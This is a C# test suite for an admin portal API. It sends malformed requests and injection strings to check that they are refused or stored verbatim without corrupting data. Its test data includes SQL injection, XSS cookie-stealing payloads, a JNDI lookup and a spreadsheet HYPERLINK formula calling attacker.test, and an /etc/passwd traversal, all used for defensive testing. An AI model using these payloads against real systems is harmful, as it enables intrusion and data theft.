using System.Globalization;
using System.Net;
using System.Text;
using AdminPortal.Features.Orders;
using AdminPortal.Tests.Infrastructure;

namespace AdminPortal.Tests.Api;

/// <summary>
/// A catalogue of bad requests against every write route: malformed JSON, wrong types, missing and
/// null members, unknown enum values, overlong strings, control characters, amounts out of range,
/// injection strings where they are invalid, oversized bodies, wrong content types, stale and
/// malformed If-Match. Each must answer its 4xx as problem+json (never a 500) and leave every row
/// of the database as it was. Injection strings that are valid input are stored and returned
/// verbatim (see the second half).
/// </summary>
[TestClass]
public sealed class HostileInputApiTests
{
    private const string Json = "application/json";
    private const string Users = "/api/users";
    private const string User = "/api/users/{user}";
    private const string Customer = "/api/users/{customer}";
    private const string Orders = "/api/orders";
    private const string Transitions = "/api/orders/{order}/transitions";

    // Bodies with a marker are made by Body(): too large, invalid UTF-8, or sent without a length.
    private const string TooLarge = "<70 KB of JSON>";
    private const string TooLargeChunked = "<70 KB of JSON, chunked>";
    private const string InvalidUtf8 = "<invalid UTF-8>";
    private const string TooDeep = "<nested 40 deep>";

    private static readonly string ValidUser = """{"name":"Ann Lee","email":"new@example.com"}""";
    private static readonly string ValidChange = """{"name":"Ann Lee","email":"ann@example.com","status":"active"}""";
    private static readonly string ValidOrder = """{"userId":{user},"amount":25.00}""";
    private static readonly string ValidMove = """{"to":"cancelled"}""";

    private static readonly HostileRequest[] Catalogue =
    [
        // Malformed JSON.
        new("unclosed object", "POST", Users, Json, """{"name":"Ann","email":"a@example.com" """, 400, "body"),
        new("trailing comma", "POST", Users, Json, """{"name":"Ann","email":"a@example.com",}""", 400, "body"),
        new("single-quoted JSON", "POST", Users, Json, "{'name':'Ann','email':'a@example.com'}", 400, "body"),
        new("comment in JSON", "POST", Users, Json, "/* hi */ " + ValidUser, 400, "body"),
        new("two documents", "POST", Users, Json, ValidUser + ValidUser, 400, "body"),
        new("bare word", "POST", Users, Json, "undefined", 400, "body"),
        new("NaN amount", "POST", Orders, Json, """{"userId":{user},"amount":NaN}""", 400, "body"),
        new("unquoted member name", "POST", Orders, Json, """{userId:{user},"amount":1}""", 400, "body"),
        new("invalid UTF-8", "POST", Users, Json, InvalidUtf8, 400, "name"),
        new("malformed transition", "POST", Transitions, Json, """{"to":""", 400, "body"),
        new("malformed user change", "PUT", User, Json, """{"name":"Ann" "email":"ann@example.com"}""", 400, "body"),

        // Not an object, empty, too deep, ambiguous.
        new("array body", "POST", Users, Json, "[]", 400, "body"),
        new("string body", "POST", Users, Json, "\"Ann\"", 400, "body"),
        new("null body", "POST", Orders, Json, "null", 400, "body"),
        new("empty body", "POST", Users, Json, "", 400, "body"),
        new("empty transition body", "POST", Transitions, Json, "", 400, "body"),
        new("nesting beyond the depth limit", "POST", Users, Json, TooDeep, 400, "body"),
        new("duplicate member", "POST", Users, Json, """{"name":"Ann","name":"Bob","email":"a@example.com"}""", 400, "body"),

        // Wrong types.
        new("name as a number", "POST", Users, Json, """{"name":42,"email":"a@example.com"}""", 400, "name"),
        new("name as an object", "POST", Users, Json, """{"name":{"first":"Ann"},"email":"a@example.com"}""", 400, "name"),
        new("name as an array", "PUT", User, Json, """{"name":["Ann"],"email":"ann@example.com","status":"active"}""", 400, "name"),
        new("email as a boolean", "POST", Users, Json, """{"name":"Ann","email":true}""", 400, "email"),
        new("amount as a string", "POST", Orders, Json, """{"userId":{user},"amount":"25.00"}""", 400, "amount"),
        new("amount as a boolean", "POST", Orders, Json, """{"userId":{user},"amount":true}""", 400, "amount"),
        new("userId as a string", "POST", Orders, Json, """{"userId":"{user}","amount":1}""", 400, "userId"),
        new("userId as a fraction", "POST", Orders, Json, """{"userId":1.5,"amount":1}""", 400, "userId"),
        new("userId beyond int", "POST", Orders, Json, """{"userId":99999999999,"amount":1}""", 400, "userId"),
        new("currency as a number", "POST", Orders, Json, """{"userId":{user},"amount":1,"currency":840}""", 400, "currency"),
        new("reason as a number", "POST", Transitions, Json, """{"to":"cancelled","reason":7}""", 400, "reason"),
        new("to as an object", "POST", Transitions, Json, """{"to":{"status":"cancelled"}}""", 400, "to"),

        // Missing or null required members.
        new("name missing", "POST", Users, Json, """{"email":"a@example.com"}""", 400, "name"),
        new("email missing", "POST", Users, Json, """{"name":"Ann"}""", 400, "email"),
        new("name null", "POST", Users, Json, """{"name":null,"email":"a@example.com"}""", 400, "name"),
        new("email null", "PUT", User, Json, """{"name":"Ann","email":null,"status":"active"}""", 400, "email"),
        new("status missing", "PUT", User, Json, """{"name":"Ann","email":"ann@example.com"}""", 400, "status"),
        new("status null", "PUT", User, Json, """{"name":"Ann","email":"ann@example.com","status":null}""", 400, "status"),
        new("amount missing", "POST", Orders, Json, """{"userId":{user}}""", 400, "amount"),
        new("amount null", "POST", Orders, Json, """{"userId":{user},"amount":null}""", 400, "amount"),
        new("userId missing", "POST", Orders, Json, """{"amount":1}""", 400, "userId"),
        new("userId null", "POST", Orders, Json, """{"userId":null,"amount":1}""", 400, "userId"),
        new("to missing", "POST", Transitions, Json, """{"reason":"why not"}""", 400, "to"),
        new("to null", "POST", Transitions, Json, """{"to":null}""", 400, "to"),
        new("empty object", "POST", Users, Json, "{}", 400, "name"),

        // Unknown enum values.
        new("status unknown", "PUT", User, Json, """{"name":"Ann","email":"ann@example.com","status":"deleted"}""", 400, "status"),
        new("status as its number", "PUT", User, Json, """{"name":"Ann","email":"ann@example.com","status":1}""", 400, "status"),
        new("status as a numeric string", "PUT", User, Json, """{"name":"Ann","email":"ann@example.com","status":"1"}""", 400, "status"),
        new("two statuses at once", "PUT", User, Json, """{"name":"Ann","email":"ann@example.com","status":"active, suspended"}""", 400, "status"),
        new("to unknown", "POST", Transitions, Json, """{"to":"paid"}""", 400, "to"),
        new("to empty", "POST", Transitions, Json, """{"to":""}""", 400, "to"),
        new("to as its number", "POST", Transitions, Json, """{"to":4}""", 400, "to"),
        new("currency in lower case", "POST", Orders, Json, """{"userId":{user},"amount":1,"currency":"usd"}""", 400, "currency"),
        new("currency unknown", "POST", Orders, Json, """{"userId":{user},"amount":1,"currency":"BTC"}""", 400, "currency"),

        // Overlong strings and control characters.
        new("name of 101 characters", "POST", Users, Json, $$"""{"name":"{{new string('n', 101)}}","email":"a@example.com"}""", 400, "name"),
        new("email of 255 characters", "POST", Users, Json, $$"""{"name":"Ann","email":"{{new string('e', 243)}}@example.com"}""", 400, "email"),
        new("name of 101 characters on change", "PUT", User, Json, $$"""{"name":"{{new string('n', 101)}}","email":"ann@example.com","status":"active"}""", 400, "name"),
        new("reason of 501 characters", "POST", Transitions, Json, $$"""{"to":"cancelled","reason":"{{new string('r', 501)}}"}""", 400, "reason"),
        new("name with NUL", "POST", Users, Json, """{"name":"Ann\u0000Lee","email":"a@example.com"}""", 400, "name"),
        new("name with escape sequence", "POST", Users, Json, """{"name":"\u001b[31mAnn","email":"a@example.com"}""", 400, "name"),
        new("name with line break", "PUT", User, Json, """{"name":"Ann\nLee","email":"ann@example.com","status":"active"}""", 400, "name"),
        new("name with a lone surrogate", "POST", Users, Json, """{"name":"Ann\ud800","email":"a@example.com"}""", 400, "name"),
        new("name of spaces only", "POST", Users, Json, """{"name":"   ","email":"a@example.com"}""", 400, "name"),
        new("reason with bell", "POST", Transitions, Json, """{"to":"cancelled","reason":"ding\u0007"}""", 400, "reason"),
        new("email with a tab", "POST", Users, Json, """{"name":"Ann","email":"a\t@example.com"}""", 400, "email"),

        // Emails that are not one bare address, injection strings among them.
        new("email with display name", "POST", Users, Json, """{"name":"Ann","email":"Ann <a@example.com>"}""", 400, "email"),
        new("two emails", "POST", Users, Json, """{"name":"Ann","email":"a@example.com,b@example.com"}""", 400, "email"),
        new("SQL injection in email", "POST", Users, Json, """{"name":"Ann","email":"x'; DROP TABLE Users;--@example.com"}""", 400, "email"),
        new("script in email", "PUT", User, Json, """{"name":"Ann","email":"<script>alert(1)</script>@example.com","status":"active"}""", 400, "email"),
        new("SQL injection in currency", "POST", Orders, Json, """{"userId":{user},"amount":1,"currency":"USD'; DROP TABLE Orders;--"}""", 400, "currency"),

        // Amounts out of range or too precise.
        new("amount zero", "POST", Orders, Json, """{"userId":{user},"amount":0}""", 400, "amount"),
        new("amount minus one", "POST", Orders, Json, """{"userId":{user},"amount":-1}""", 400, "amount"),
        new("amount a cent over the maximum", "POST", Orders, Json, """{"userId":{user},"amount":1000000.01}""", 400, "amount"),
        new("amount with three decimals", "POST", Orders, Json, """{"userId":{user},"amount":12.345}""", 400, "amount"),
        new("amount of a tenth of a cent", "POST", Orders, Json, """{"userId":{user},"amount":0.001}""", 400, "amount"),
        new("amount beyond decimal", "POST", Orders, Json, """{"userId":{user},"amount":79228162514264337593543950336}""", 400, "amount"),
        new("amount of 1e400", "POST", Orders, Json, """{"userId":{user},"amount":1e400}""", 400, "amount"),
        new("amount of -1e400", "POST", Orders, Json, """{"userId":{user},"amount":-1e400}""", 400, "amount"),

        // References and state.
        new("unknown user", "POST", Orders, Json, """{"userId":424242,"amount":1}""", 400, "userId"),
        new("negative user id", "POST", Orders, Json, """{"userId":-1,"amount":1}""", 400, "userId"),
        new("suspended user", "POST", Orders, Json, """{"userId":{suspended},"amount":1}""", 409, null),
        new("taken email on create", "POST", Users, Json, """{"name":"Ann","email":"ANN@example.com"}""", 409, null),
        new("taken email on change", "PUT", Customer, Json, """{"name":"Cy","email":"ann@example.com","status":"active"}""", 409, null),
        new("delete a user with orders", "DELETE", Customer, null, "", 409, null),
        new("pending to shipped", "POST", Transitions, Json, """{"to":"shipped"}""", 409, null),
        new("pending to delivered", "POST", Transitions, Json, """{"to":"delivered"}""", 409, null),
        new("pending to pending", "POST", Transitions, Json, """{"to":"pending"}""", 409, null),

        // Oversized bodies.
        new("oversized user", "POST", Users, Json, TooLarge, 413, null),
        new("oversized user, chunked", "POST", Users, Json, TooLargeChunked, 413, null),
        new("oversized change", "PUT", User, Json, TooLarge, 413, null),
        new("oversized order", "POST", Orders, Json, TooLarge, 413, null),
        new("oversized transition", "POST", Transitions, Json, TooLargeChunked, 413, null),

        // Wrong or missing content types.
        new("no content type", "POST", Users, null, ValidUser, 415, null),
        new("text/plain", "POST", Users, "text/plain", ValidUser, 415, null),
        new("form post", "POST", Users, "application/x-www-form-urlencoded", "name=Ann&email=new%40example.com", 415, null),
        new("XML", "POST", Orders, "application/xml", "<order><userId>1</userId></order>", 415, null),
        new("JSON in UTF-16", "POST", Orders, "application/json; charset=utf-16", ValidOrder, 415, null),
        new("multipart", "PUT", User, "multipart/form-data; boundary=x", "--x--", 415, null),
        new("no content type on a transition", "POST", Transitions, null, ValidMove, 415, null),

        // Preconditions.
        new("stale If-Match on change", "PUT", User, Json, ValidChange, 412, null, IfMatch: "\"9\""),
        new("weak If-Match on change", "PUT", User, Json, ValidChange, 412, null, IfMatch: "W/\"1\""),
        new("foreign If-Match on change", "PUT", User, Json, ValidChange, 412, null, IfMatch: "\"abc\""),
        new("stale If-Match list on delete", "DELETE", User, null, "", 412, null, IfMatch: "\"7\", \"8\""),
        new("stale If-Match on delete", "DELETE", User, null, "", 412, null, IfMatch: "\"2\""),
        new("stale If-Match on transition", "POST", Transitions, Json, ValidMove, 412, null, IfMatch: "\"2\""),
        new("malformed If-Match on change", "PUT", User, Json, ValidChange, 400, "If-Match", IfMatch: "1"),
        new("malformed If-Match on delete", "DELETE", User, null, "", 400, "If-Match", IfMatch: "version one"),
        new("malformed If-Match on transition", "POST", Transitions, Json, ValidMove, 400, "If-Match", IfMatch: "\"1"),
    ];

    public static IEnumerable<object[]> Requests() => Catalogue.Select(r => new object[] { r.Name });

    [TestMethod]
    public void The_catalogue_holds_at_least_60_bad_requests_across_every_write_route()
    {
        Assert.IsGreaterThanOrEqualTo(60, Catalogue.Length);
        Assert.AreEqual(Catalogue.Length, Catalogue.Select(r => r.Name).Distinct().Count(), "names are unique");
        CollectionAssert.IsSubsetOf(
            new[] { "POST /api/users", "PUT /api/users/{user}", "DELETE /api/users/{user}", "POST /api/orders", "POST /api/orders/{order}/transitions" },
            Catalogue.Select(r => $"{r.Method} {r.Route}").Distinct().ToArray());
        CollectionAssert.IsSubsetOf(new[] { 400, 409, 412, 413, 415 }, Catalogue.Select(r => r.Status).Distinct().ToArray());
    }

    [TestMethod]
    [DynamicData(nameof(Requests))]
    public async Task A_bad_request_is_refused_with_problem_json_and_writes_nothing(string name)
    {
        var row = Catalogue.Single(r => r.Name == name);
        using var lease = await SharedPortals.AcquireAsync();
        var portal = lease.Portal;
        var ids = await ArrangeAsync(portal);
        using var api = await ApiClient.AdminAsync(portal);
        var before = await portal.SnapshotAsync();

        var response = await api.SendAsync(new HttpMethod(row.Method), ids.Fill(row.Route), Body(row, ids), row.IfMatch);

        response.Problem((HttpStatusCode)row.Status, row.Field);
        (await portal.SnapshotAsync()).AssertUnchangedSince(before, name);
    }

    public static IEnumerable<object[]> InjectionStrings() =>
    [
        ["Robert'); DROP TABLE Users;--"],
        ["<script>alert(1)</script>"],
        ["' OR '1'='1"],
        ["\"; DELETE FROM Orders WHERE 1=1; --"],
        ["<img src=x onerror=alert(document.cookie)>"],
        ["{{7*7}} ${7*7} <%= 7*7 %>"],
        ["${jndi:ldap://attacker.test/a}"],
        ["../../../etc/passwd"],
        ["=HYPERLINK(\"http://attacker.test\",\"x\")"],
        ["Ünïcødé 名前 🚀 \u202Etxt.exe"],
        ["NULL"],
        ["\\x00\\u0000 %00"],
    ];

    [TestMethod]
    [DynamicData(nameof(InjectionStrings))]
    public async Task An_injection_string_that_is_a_valid_name_is_stored_and_returned_verbatim(string name)
    {
        using var lease = await SharedPortals.AcquireAsync();
        var portal = lease.Portal;
        using var api = await ApiClient.AdminAsync(portal);

        var created = await api.CreateUserAsync(name);
        var read = (await api.GetAsync($"/api/users/{created.Id}")).Is(HttpStatusCode.OK);
        var found = (await api.GetAsync($"/api/users?search={Uri.EscapeDataString(name)}")).Is(HttpStatusCode.OK);
        var changed = (await api.PutAsync($"/api/users/{created.Id}", new { name = name + " 2", email = created.String("email"), status = "active" })).Is(HttpStatusCode.OK);

        Assert.AreEqual(name, created.String("name"));
        Assert.AreEqual(name, read.String("name"));
        Assert.AreEqual(name, found.Body.GetProperty("items").EnumerateArray().Single().GetProperty("name").GetString());
        Assert.AreEqual(name + " 2", changed.String("name"));
        var snapshot = await portal.SnapshotAsync();
        Assert.HasCount(1, snapshot.Users, "the table is intact and holds only the one user");
    }

    [TestMethod]
    [DataRow("Robert'); DROP TABLE Orders;--")]
    [DataRow("<script>alert(1)</script>")]
    [DataRow("line one\nline two\ttabbed")]
    public async Task An_injection_string_in_a_reason_is_kept_verbatim_in_the_history(string reason)
    {
        using var lease = await SharedPortals.AcquireAsync();
        var portal = lease.Portal;
        using var api = await ApiClient.AdminAsync(portal);
        var user = await api.CreateUserAsync();
        var order = await api.CreateOrderAsync(user.Id);

        (await api.MoveAsync(order.Id, "cancelled", reason)).Is(HttpStatusCode.OK);

        var history = (await api.GetAsync($"/api/orders/{order.Id}/history")).Is(HttpStatusCode.OK).Body;
        Assert.AreEqual(reason, history[1].GetProperty("reason").GetString());
        Assert.HasCount(1, (await portal.SnapshotAsync()).Orders);
    }

    [TestMethod]
    [DataRow("' OR 1=1 --")]
    [DataRow("%")]
    [DataRow("_")]
    [DataRow("\" OR \"\"=\"")]
    public async Task An_injection_string_in_a_search_matches_only_itself(string search)
    {
        using var lease = await SharedPortals.AcquireAsync();
        var portal = lease.Portal;
        await portal.AddUserAsync(new UserBuilder().Named("Ann Lee"));
        await portal.AddUserAsync(new UserBuilder().Named("Bob Ode"));
        using var api = await ApiClient.AdminAsync(portal);

        var page = (await api.GetAsync($"/api/users?search={Uri.EscapeDataString(search)}")).Is(HttpStatusCode.OK).Body;

        Assert.AreEqual(0, page.GetProperty("totalCount").GetInt32());
    }

    [TestMethod]
    [DataRow("/api/users?sort=name;DROP TABLE Users", "sort")]
    [DataRow("/api/users?sort=name desc", "sort")]
    [DataRow("/api/orders?sort=amount); DELETE FROM Orders;--", "sort")]
    [DataRow("/api/orders?status=pending' OR '1'='1", "status")]
    [DataRow("/api/orders?userId=1 OR 1=1", "userId")]
    public async Task An_injection_string_in_a_list_parameter_answers_400_and_changes_nothing(string path, string parameter)
    {
        using var lease = await SharedPortals.AcquireAsync();
        var portal = lease.Portal;
        var ids = await ArrangeAsync(portal);
        using var api = await ApiClient.AdminAsync(portal);
        var before = await portal.SnapshotAsync();

        (await api.GetAsync(path)).Problem(HttpStatusCode.BadRequest, parameter);

        (await portal.SnapshotAsync()).AssertUnchangedSince(before, path);
        Assert.IsGreaterThan(0, ids.User);
    }

    /// <summary>An active user without orders (ann@example.com), a customer with a pending order, and a suspended user.</summary>
    private static async Task<Ids> ArrangeAsync(PortalFactory portal)
    {
        var user = await portal.AddUserAsync(new UserBuilder().Named("Ann Lee").WithEmail("ann@example.com"));
        var customer = await portal.AddUserAsync(new UserBuilder().Named("Cy Park").WithEmail("cy@example.com"));
        var suspended = await portal.AddUserAsync(new UserBuilder().Suspended());
        var order = await portal.AddOrderAsync(customer.Id, new OrderBuilder().WithAmount(25.00m));
        Assert.AreEqual(1, user.Version, "the If-Match rows assume version 1");
        return new Ids(user.Id, customer.Id, suspended.Id, order.Id);
    }

    private static HttpContent? Body(HostileRequest row, Ids ids)
    {
        if (row.Method == "DELETE" && row.Body.Length == 0 && row.ContentType is null)
        {
            return null;
        }

        HttpContent content = row.Body switch
        {
            TooLarge => new ByteArrayContent(Big()),
            TooLargeChunked => new StreamContent(new MemoryStream(Big())),
            InvalidUtf8 => new ByteArrayContent([.. "{\"name\":\""u8, 0xC3, 0x28, 0xFF, .. "\",\"email\":\"a@example.com\"}"u8]),
            TooDeep => new ByteArrayContent(Encoding.UTF8.GetBytes($$"""{"name":"Ann","email":"a@example.com","extra":{{new string('[', 40)}}{{new string(']', 40)}}}""")),
            _ => new ByteArrayContent(Encoding.UTF8.GetBytes(ids.Fill(row.Body))),
        };
        if (row.ContentType is not null)
        {
            content.Headers.TryAddWithoutValidation("Content-Type", row.ContentType);
        }

        return content;
    }

    // A valid user whose name alone passes the 64 KB limit.
    private static byte[] Big() => Encoding.UTF8.GetBytes($$"""{"name":"{{new string('a', 70 * 1024)}}","email":"big@example.com"}""");

    private sealed record HostileRequest(string Name, string Method, string Route, string? ContentType, string Body, int Status, string? Field, string? IfMatch = null)
    {
        public override string ToString() => Name;
    }

    private sealed record Ids(int User, int Customer, int Suspended, int Order)
    {
        public string Fill(string text) => text
            .Replace("{user}", User.ToString(CultureInfo.InvariantCulture), StringComparison.Ordinal)
            .Replace("{customer}", Customer.ToString(CultureInfo.InvariantCulture), StringComparison.Ordinal)
            .Replace("{suspended}", Suspended.ToString(CultureInfo.InvariantCulture), StringComparison.Ordinal)
            .Replace("{order}", Order.ToString(CultureInfo.InvariantCulture), StringComparison.Ordinal);
    }
}
